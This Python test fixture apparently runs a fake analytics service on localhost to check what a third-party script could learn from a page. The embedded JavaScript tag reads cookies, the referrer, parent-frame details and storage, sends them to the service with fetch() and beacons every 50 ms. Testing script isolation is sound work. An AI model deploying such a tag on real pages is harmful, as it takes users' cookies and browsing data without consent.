"""Somebody else's analytics service, on a port of this machine: it notes every request, and what its tag could learn."""

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# It tries all that a page could give away, and then goes on counting.
TAG = """
const tried = (get) => { try { return String(get()); } catch { return ""; } };
const learned = [location.href, document.referrer, document.title, tried(() => parent.location.href), tried(() => parent.document.title),
  tried(() => document.cookie), tried(() => localStorage.length)];
fetch(`${SERVICE}/learned?${new URLSearchParams(learned.map((words, at) => [at, words]))}`);
setInterval(() => fetch(`${SERVICE}/beat`), 50);
"""


class FakeService:
    """The service, with the requests it got."""

    def __init__(self, server):
        self.host = f"127.0.0.1:{server.server_port}"
        self.url = f"http://{self.host}"
        self.requests = []

    def answer(self, handler):
        self.requests.append((handler.path, dict(handler.headers)))
        handler.send_response(200)
        handler.send_header("Content-Type", "text/javascript")
        handler.send_header("Access-Control-Allow-Origin", "*")
        handler.end_headers()
        handler.wfile.write(TAG.replace("${SERVICE}", self.url).encode())

    def learned(self):
        """All that it was sent, in one text."""
        return "\n".join(f"{path} {headers}" for path, headers in self.requests)


@contextmanager
def fake_service():
    """Run one for a while."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            service.answer(self)

        def log_message(self, *args):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        service = FakeService(server)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield service
        server.shutdown()
